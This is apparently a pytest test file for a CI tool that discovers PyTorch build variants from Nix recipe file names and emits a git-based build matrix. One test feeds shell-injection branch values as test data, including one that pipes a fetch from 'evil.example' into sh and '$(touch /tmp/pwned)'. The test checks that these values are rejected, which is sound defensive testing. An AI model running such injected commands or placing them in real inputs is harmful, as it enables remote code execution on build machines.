"""Strict discovery of variants from recipe files, for build repositories without a catalog:
pure rules, then `ci-tools matrix` on real git repositories."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from ci_tools.catalog.model import Catalog, Kind, Platform
from ci_tools.plan.discovery import DEFAULT_CPUINFO, discover
from tests.conftest import CliRunner
from tests.gitutil import commit_all, git, init, write

PKGS = ".flox/pkgs"
RECIPES = (
    "pytorch-python313-cuda12_9-sm90-avx512.nix",
    "torchvision-python313-cuda12_9-sm90-avx512.nix",
    "torchaudio-python313-cuda12_9-sm90-avx512.nix",
    "pytorch-python313-cuda12_9-sm121-armv9.nix",
    "pytorch-python312-cpu-avx2.nix",
    "torchvision-python312-cpu-avx512bf16.nix",  # no pytorch recipe of that name
    "pytorch-python313-darwin-mps.nix",
)


def test_names_become_targets_with_platform_and_base() -> None:
    found = discover(RECIPES, pkgs_dir=PKGS)
    assert found.problems == ()
    by_name = {t.name: t for t in found.targets}
    assert set(by_name) == {r.removesuffix(".nix") for r in RECIPES}
    vision = by_name["torchvision-python313-cuda12_9-sm90-avx512"]
    assert vision.base == "pytorch-python313-cuda12_9-sm90-avx512"
    assert by_name["torchaudio-python313-cuda12_9-sm90-avx512"].base == vision.base
    assert by_name["torchvision-python312-cpu-avx512bf16"].base is None
    arm = by_name["pytorch-python313-cuda12_9-sm121-armv9"]
    assert (arm.platform, arm.kind, arm.sm, arm.cpuinfo) == (
        Platform.AARCH64_LINUX,
        Kind.GPU,
        "sm121",
        ("sve", "sve2"),
    )
    mac = by_name["pytorch-python313-darwin-mps"]
    assert (mac.platform, mac.kind, mac.cpuinfo) == (Platform.AARCH64_DARWIN, Kind.DARWIN, None)
    assert by_name["pytorch-python312-cpu-avx2"].python == "3.12"


@pytest.mark.parametrize(
    ("file", "says"),
    [
        # Names the real build repository carried (barstoolbluz/build-pytorch history) that
        # are no declared alias.
        ("pytorch-python313-darwin-x86.nix", "is not a variant name"),
        (
            "pytorch-python313-cuda12_8-sm120-avx2-cu128.nix",
            '"-cu128" after "pytorch-python313-cuda12_8-sm120-avx2" is outside the grammar; if '
            'it marks another build of that variant, add "cu128" under `builds:` in '
            "ci-tools.yaml",
        ),
        ("pytorch-python313-cpu-armv8.3.nix", "is not a variant name"),
        ("pytorch-py313-sm90-avx512.nix", "is not a variant name"),
        ("pytorch-python313-cpu-sve2.nix", 'unknown ISA "sve2"'),
        ("pytoch-python313-cpu-avx2.nix", 'unknown package "pytoch" (did you mean "pytorch"?)'),
        ("pytorch-python31-cpu-avx2.nix", "python31 would be Python 3.1"),
        ("README.md", "not a recipe"),
        ("lib/torch-cuda.nix", "flox makes a folder without default.nix a package set"),
    ],
)
def test_every_other_file_is_a_problem_naming_what_would_be_right(file: str, says: str) -> None:
    found = discover([*RECIPES, file], pkgs_dir=PKGS)
    assert len(found.problems) == 1
    assert found.problems[0].startswith(f"{PKGS}/{file.split('/')[0]}")
    assert says in found.problems[0]
    assert "a glob under `ignore:` in ci-tools.yaml, or --ignore NAME" in found.problems[0]


def test_ignored_by_name_is_not_a_problem() -> None:
    found = discover(
        [*RECIPES, "pytorch-python313-darwin-x86.nix", "lib/x.nix"],
        ignore=["pytorch-python313-darwin-x86", "lib"],
        pkgs_dir=PKGS,
    )
    assert found.problems == ()
    assert found.ignored == (f"{PKGS}/pytorch-python313-darwin-x86.nix", f"{PKGS}/lib/x.nix")


def test_folder_with_default_nix_is_one_variant() -> None:
    found = discover(
        ["pytorch-python313-cpu-avx2/default.nix", "pytorch-python313-cpu-avx2/fix.patch"],
        pkgs_dir=PKGS,
    )
    assert found.problems == ()
    assert [t.name for t in found.targets] == ["pytorch-python313-cpu-avx2"]


def test_python31_is_not_python_3_1() -> None:
    assert discover(["pytorch-python31-cpu-avx2.nix"], pkgs_dir=PKGS).targets == ()
    (target,) = discover(["pytorch-python311-cpu-avx2.nix"], pkgs_dir=PKGS).targets
    assert target.python == "3.11"


def test_default_isa_table_matches_the_shipped_catalog(catalog: Catalog) -> None:
    assert dict(DEFAULT_CPUINFO) == {name: isa.cpuinfo for name, isa in catalog.isas.items()}


# --- `ci-tools matrix` on real git repositories ----------------------------------------------


def _repo(tmp_path: Path, files: tuple[str, ...], branch: str = "cuda-12_9") -> Path:
    root = init(tmp_path / "repo", branch)
    for name in files:
        write(root, f"{PKGS}/{name}", "{ }: 1\n")
    write(root, "README.md", "# builds\n")
    commit_all(root, "recipes")
    return root


def test_matrix_in_a_checkout_without_catalog(tmp_path: Path, run_cli: CliRunner) -> None:
    root = _repo(tmp_path, RECIPES)
    result = run_cli("matrix", "--group", "none", cwd=root)
    assert result.returncode == 0, result.stderr
    entries = json.loads(result.stdout)["include"]
    assert sorted(p for e in entries for p in e["packages"]) == sorted(
        r.removesuffix(".nix") for r in RECIPES
    )
    assert {e["branch"] for e in entries} == {"cuda-12_9"}
    stacks = json.loads(run_cli("matrix", cwd=root).stdout)["include"]
    by_name = {e["name"]: e for e in stacks}
    assert by_name["py313-sm90-avx512"]["packages"] == [
        "pytorch-python313-cuda12_9-sm90-avx512",
        "torchaudio-python313-cuda12_9-sm90-avx512",
        "torchvision-python313-cuda12_9-sm90-avx512",
    ]
    assert by_name["py313-darwin-mps"]["runs_on"] == ["self-hosted", "macOS", "ARM64"]
    assert not any("fingerprint" in e for e in stacks)
    fingerprinted = json.loads(run_cli("matrix", "--fingerprints", cwd=root).stdout)["include"]
    assert [{k: v for k, v in e.items() if k != "fingerprint"} for e in fingerprinted] == stacks
    assert all(re.fullmatch(r"(nix|raw)-[0-9a-f]{32}", e["fingerprint"]) for e in fingerprinted)


def test_names_outside_the_grammar_exit_2_naming_each_file(
    tmp_path: Path, run_cli: CliRunner
) -> None:
    bad = ("pytorch-python313-cpu-armv8.3.nix", "pytorch-python313-cpu-sve2.nix")
    root = _repo(tmp_path, (*RECIPES, *bad))
    result = run_cli("matrix", cwd=root)
    assert result.returncode == 2
    assert result.stdout == ""
    for name in bad:
        assert f"{PKGS}/{name}" in result.stderr
    assert "Traceback" not in result.stderr
    ok = run_cli(
        "matrix",
        "--ignore",
        "pytorch-python313-cpu-armv8.3",
        "--ignore",
        "pytorch-python313-cpu-sve2",
        cwd=root,
    )
    assert ok.returncode == 0, ok.stderr


def test_default_nix_variant_is_discovered(tmp_path: Path, run_cli: CliRunner) -> None:
    root = _repo(tmp_path, ("pytorch-python313-cpu-avx2/default.nix",))
    result = run_cli("matrix", "--group", "none", cwd=root)
    assert result.returncode == 0, result.stderr
    (entry,) = json.loads(result.stdout)["include"]
    assert entry["packages"] == ["pytorch-python313-cpu-avx2"]


def test_untracked_recipe_is_refused(tmp_path: Path, run_cli: CliRunner) -> None:
    root = _repo(tmp_path, RECIPES)
    write(root, f"{PKGS}/pytorch-python313-cpu-avx512.nix", "{ }: 2\n")
    result = run_cli("matrix", cwd=root)
    assert result.returncode == 2
    assert f"{PKGS}/pytorch-python313-cpu-avx512.nix: not tracked by git" in result.stderr


@pytest.mark.parametrize(
    ("env", "branch"),
    [
        ({"GITHUB_BASE_REF": "cuda-13_0", "GITHUB_HEAD_REF": "fix-x"}, "cuda-13_0"),
        ({"GITHUB_HEAD_REF": "fix-x"}, "fix-x"),
        ({"GITHUB_REF": "refs/heads/cuda-12_8"}, "cuda-12_8"),
    ],
)
def test_detached_head_takes_the_branch_from_the_workflow(
    tmp_path: Path, run_cli: CliRunner, env: dict[str, str], branch: str
) -> None:
    root = _repo(tmp_path, RECIPES)
    git(root, "checkout", "-q", "--detach")
    result = run_cli("matrix", cwd=root, env=env)
    assert result.returncode == 0, result.stderr
    assert {e["branch"] for e in json.loads(result.stdout)["include"]} == {branch}
    explicit = run_cli("matrix", "--branch", "other", cwd=root, env=env)
    assert {e["branch"] for e in json.loads(explicit.stdout)["include"]} == {"other"}


@pytest.mark.parametrize(
    ("env", "variable"),
    [
        ({"GITHUB_HEAD_REF": 'x"; curl https://evil.example | sh; #'}, "GITHUB_HEAD_REF"),
        ({"GITHUB_BASE_REF": "$(touch /tmp/pwned)"}, "GITHUB_BASE_REF"),
        ({"GITHUB_REF": "refs/heads/a..b"}, "GITHUB_REF"),
        ({"GITHUB_HEAD_REF": "x" * 100_000}, "GITHUB_HEAD_REF"),
    ],
)
def test_a_branch_from_the_workflow_is_validated_like_an_argument(
    tmp_path: Path, run_cli: CliRunner, env: dict[str, str], variable: str
) -> None:
    """Issue 20 item 12: without a catalog, the branch from GITHUB_*_REF reached the matrix
    unvalidated."""
    root = _repo(tmp_path, RECIPES)
    git(root, "checkout", "-q", "--detach")
    result = run_cli("matrix", cwd=root, env=env)
    assert result.returncode == 2, result.stdout
    assert f"the branch from {variable}, " in result.stderr
    assert "pass --branch NAME" in result.stderr
    assert len(result.stderr) < 2000
    assert result.stdout == ""


def test_a_git_branch_outside_the_grammar_is_refused(tmp_path: Path, run_cli: CliRunner) -> None:
    root = _repo(tmp_path, RECIPES, branch="fix$(id)")
    result = run_cli("matrix", cwd=root)
    assert result.returncode == 2
    assert "the branch from git's current branch, 'fix$(id)', " in result.stderr


def test_detached_head_without_a_named_branch_is_bad_input(
    tmp_path: Path, run_cli: CliRunner
) -> None:
    root = _repo(tmp_path, RECIPES)
    git(root, "checkout", "-q", "--detach")
    result = run_cli("matrix", cwd=root)
    assert result.returncode == 2
    assert "pass --branch" in result.stderr


def test_branch_defaults_to_the_git_branch(tmp_path: Path, run_cli: CliRunner) -> None:
    root = _repo(tmp_path, ("pytorch-python313-cpu-avx2.nix",), branch="cuda-13_0")
    result = run_cli("matrix", cwd=root)
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["include"][0]["branch"] == "cuda-13_0"


def test_no_catalog_and_no_recipes_is_bad_input(tmp_path: Path, run_cli: CliRunner) -> None:
    result = run_cli("matrix", cwd=tmp_path)
    assert result.returncode == 2
    assert "no catalog.yaml and no .flox/pkgs/" in result.stderr
    assert "Traceback" not in result.stderr
